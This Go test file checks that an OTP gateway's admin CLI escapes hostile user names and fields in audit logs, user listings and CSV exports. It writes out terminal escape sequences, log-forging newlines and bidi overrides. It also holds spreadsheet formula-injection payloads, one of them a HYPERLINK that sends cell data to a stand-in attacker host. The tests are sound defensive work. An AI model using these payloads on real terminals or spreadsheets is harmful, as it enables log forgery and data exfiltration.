package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	bolt "go.etcd.io/bbolt"

	"github.com/otpgate/otpgate/store"
)

// rawControl finds a byte or character in s that a terminal would act on
// rather than show: a C0 control other than line feed, DEL, a C1 control,
// a bidirectional override, or a byte that is not UTF-8.
func rawControl(s string) (string, bool) {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"),
			r < ' ' && r != '\n', r == 0x7f, r >= 0x80 && r <= 0x9f, r == '\u202e', r == '\u2028':
			return strings.ToValidUTF8(s[max(0, i-20):min(len(s), i+20)], "?"), true
		}
	}
	return "", false
}

// hostileNames are User-Names a stranger can send: one forging a whole
// audit row, one clearing the admin's screen, a C1 CSI, a bidi override,
// a DEL (which JSON leaves as it is).
var hostileNames = []string{
	"mallory\n2026-01-01T00:00:00Z  root  gw  192.0.2.1  accept  office_network  -",
	"x\x1b[2J\x07\rboom",
	"c1\u009b2J",
	"bidi\u202egnp.exe",
	"del\x7fname",
}

// TestAuditEscapesHostileNames sends logins under hostile names through
// the real listener and reads the audit log as an admin would.
func TestAuditEscapesHostileNames(t *testing.T) {
	s := startServer(t, cliConfig)
	for _, name := range hostileNames {
		mustExchange(t, s.addrs[0], request{user: name, password: "pw"})
	}
	out := s.cli(t, "audit")
	if bad, ok := rawControl(out); ok {
		t.Errorf("otpgate audit printed a raw control character near %q:\n%q", bad, out)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 1+len(hostileNames) {
		t.Fatalf("got %d lines, want a header and one per entry (%d):\n%s", len(lines), 1+len(hostileNames), out)
	}
	for _, l := range lines {
		if strings.HasPrefix(l, "2026-01-01") {
			t.Errorf("a User-Name forged an audit row: %q", l)
		}
	}
	if !strings.Contains(out, `mallory\n2026-01-01t00:00:00z  root`) || !strings.Contains(out, `x\x1b[2j\x07\rboom`) ||
		!strings.Contains(out, `c1\u009b2j`) || !strings.Contains(out, `bidi\u202egnp.exe`) {
		t.Errorf("the names are not shown escaped:\n%s", out)
	}

	// The JSON is one valid object per line, holding the names as sent.
	js := s.cli(t, "audit", "--json")
	if bad, ok := rawControl(js); ok {
		t.Errorf("otpgate audit --json printed a raw control character near %q", bad)
	}
	jl := strings.Split(strings.TrimSuffix(js, "\n"), "\n")
	if len(jl) != len(hostileNames) {
		t.Fatalf("got %d JSON lines, want %d:\n%s", len(jl), len(hostileNames), js)
	}
	for i, l := range jl {
		var e store.Entry
		if err := json.Unmarshal([]byte(l), &e); err != nil || e.User != store.NormalizeName(hostileNames[i]) {
			t.Errorf("line %d: got %q (%v), want user %q", i, e.User, err, store.NormalizeName(hostileNames[i]))
		}
		if strings.Contains(l, `"admin"`) {
			t.Errorf("a login's entry carries an admin part: %s", l)
		}
	}
}

// TestUserOutputEscaped puts users with hostile names and addresses in the
// store, as a directory or a login could make them, and lists, shows and
// exports them.
func TestUserOutputEscaped(t *testing.T) {
	_, cfg := writeConfig(t, cliConfig)
	settings, err := loadConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	db, _, err := openStore(settings, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	err = db.Update(func(tx *store.Tx) error {
		for _, n := range hostileNames {
			u := store.User{Name: store.NormalizeName(n), Tenant: "acme", Email: "a@b\x1b]0;owned\x07\n,c", Method: "email"}
			if err := tx.PutUser(u); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	list, _, status := cliRun(t, cfg, "", "user", "list")
	if bad, ok := rawControl(list); ok || status != 0 {
		t.Errorf("user list (status %d) printed a raw control character near %q:\n%q", status, bad, list)
	}
	if n := strings.Count(list, "\n"); n != 1+len(hostileNames) {
		t.Errorf("user list: got %d lines, want %d:\n%s", n, 1+len(hostileNames), list)
	}
	for _, n := range hostileNames {
		show, errOut, status := cliRun(t, cfg, "", "user", "show", n)
		if bad, ok := rawControl(show + errOut); ok || status != 0 {
			t.Errorf("user show %q (status %d) printed a raw control character near %q:\n%q", n, status, bad, show+errOut)
		}
		if !strings.Contains(squash(show), `email: a@b\x1b]0;owned\x07\n,c`) {
			t.Errorf("user show %q:\n%s", n, show)
		}
	}
	// An error that echoes what was typed is escaped too.
	if _, errOut, _ := cliRun(t, cfg, "", "user", "show", "nobody\x1b[2J"); !strings.Contains(errOut, `no user nobody\x1b[2j`) {
		t.Errorf("got %q", errOut)
	}
	exp, _, _ := cliRun(t, cfg, "", "user", "export")
	if bad, ok := rawControl(exp); ok {
		t.Errorf("user export printed a raw control character near %q:\n%q", bad, exp)
	}
	if n := strings.Count(exp, "\n"); n != 1+len(hostileNames) {
		t.Errorf("user export: got %d lines, want one per user and the header:\n%s", n, exp)
	}

	// Names a terminal cannot show are refused when they are given.
	for _, n := range []string{"a\u202eb", "c1\u009b", "zw\u200bsp", "bad\xff"} {
		if _, errOut, status := cliRun(t, cfg, "", "user", "add", n, "--tenant", "acme"); status != 2 || !strings.Contains(errOut, "no control or invisible characters") {
			t.Errorf("user add %q: got status %d %q, want it refused", n, status, errOut)
		}
	}
}

// TestExportNeutralisesFormulas exports users whose fields a spreadsheet
// would run as formulas, and imports the file back unchanged.
func TestExportNeutralisesFormulas(t *testing.T) {
	dir, cfg := writeConfig(t, cliConfig)
	in := filepath.Join(dir, "in.csv")
	os.WriteFile(in, []byte("name,tenant,phone,email,method\n"+
		`"=HYPERLINK(""http://evil.example/?""&A1,""click"")",acme,+31612345678,,sms`+"\n"+
		"@sum(1+1),acme,,=1+2@example.com,email\n"+
		"-2+3,acme,,,\n"+
		"+evil,acme,,,\n"+
		"''=quoted,acme,,,\n"+
		"plain,acme,+31687654321,plain@example.com,sms\n"), 0o600)
	if out, errOut, status := cliRun(t, cfg, "", "user", "import", in); status != 0 {
		t.Fatalf("import: %d %s%s", status, out, errOut)
	}
	exp, _, _ := cliRun(t, cfg, "", "user", "export")
	recs, err := csv.NewReader(strings.NewReader(exp)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !(i == 2 && isE164Cell(cell)) {
				t.Errorf("cell %q of %v would run as a formula", cell, rec)
			}
		}
		if rec[0] == "plain" && (rec[2] != "+31687654321" || rec[3] != "plain@example.com") {
			t.Errorf("plain values changed: %v", rec)
		}
	}
	if !strings.Contains(exp, `'=hyperlink(`) || !strings.Contains(exp, "''=quoted") || !strings.Contains(exp, ",+31612345678,") {
		t.Errorf("export:\n%s", exp)
	}

	// Back in, into an empty store: the same users, and the same file out.
	_, cfg2 := writeConfig(t, cliConfig)
	file := filepath.Join(dir, "exported.csv")
	os.WriteFile(file, []byte(exp), 0o600)
	if out, errOut, status := cliRun(t, cfg2, "", "user", "import", file); status != 0 {
		t.Fatalf("import of the export: %d %s%s", status, out, errOut)
	}
	if exp2, _, _ := cliRun(t, cfg2, "", "user", "export"); exp2 != exp {
		t.Errorf("export → import → export changed the file:\n%s\nthen\n%s", exp, exp2)
	}
	for _, n := range []string{`=hyperlink("http://evil.example/?"&a1,"click")`, "@sum(1+1)", "-2+3", "+evil", "'=quoted"} {
		if show, _, status := cliRun(t, cfg2, "", "user", "show", "--", n); status != 0 || !strings.Contains(squash(show), "name: "+n+"\n") {
			t.Errorf("user show %q after the round trip: %d\n%s", n, status, show)
		}
	}
}

func isE164Cell(s string) bool {
	return len(s) > 1 && s[0] == '+' && strings.Trim(s[1:], "0123456789") == ""
}

// TestMessagesStayOneLine: a name typed to a command, or kept in the
// store, that holds a line feed shows it escaped in what the command
// answers, so that it cannot add a line of its own to the message — here
// one that reads like the server's own.
func TestMessagesStayOneLine(t *testing.T) {
	const forged = "\nok: all users unlocked"
	dir, cfg := writeConfig(t, cliConfig)
	settings, err := loadConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	db, _, err := openStore(settings, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	err = db.Update(func(tx *store.Tx) error {
		return tx.PutUser(store.User{Name: "eve" + forged, Tenant: "acme", Email: "eve@example.com", Method: "email"})
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	oneLine := func(what, out string) {
		t.Helper()
		for l := range strings.Lines(out) {
			if strings.HasPrefix(l, "ok: ") {
				t.Errorf("%s: a name started a line of its own:\n%s", what, out)
			}
		}
		if !strings.Contains(out, `\nok: all users unlocked`) {
			t.Errorf("%s: the name is not shown escaped:\n%s", what, out)
		}
	}
	for _, args := range [][]string{
		{"user", "show", "nobody" + forged},
		{"user", "delete", "nobody" + forged},
		{"user", "set", "nobody" + forged, "--email", "n@example.com"},
		{"user", "unlock", "eve" + forged},
		{"user", "set", "eve" + forged, "--email", "eve2@example.com"},
		{"user", "add", "eve" + forged, "--tenant", "acme"},
		{"user", "delete", "eve" + forged},
	} {
		out, errOut, _ := cliRun(t, cfg, "", args...)
		oneLine(strings.Join(args[:2], " "), out+errOut)
	}

	// A key in the store whose record cannot be read.
	b, err := bolt.Open(filepath.Join(dir, "otpgate.db"), 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = b.Update(func(tx *bolt.Tx) error {
		return tx.Bucket([]byte("users")).Put([]byte("mallory"+forged), []byte("not a record"))
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	out, errOut, status := cliRun(t, cfg, "", "user", "list")
	if status == 0 {
		t.Fatalf("user list of a store with an unreadable record: status 0\n%s", out)
	}
	oneLine("user list", out+errOut)
}
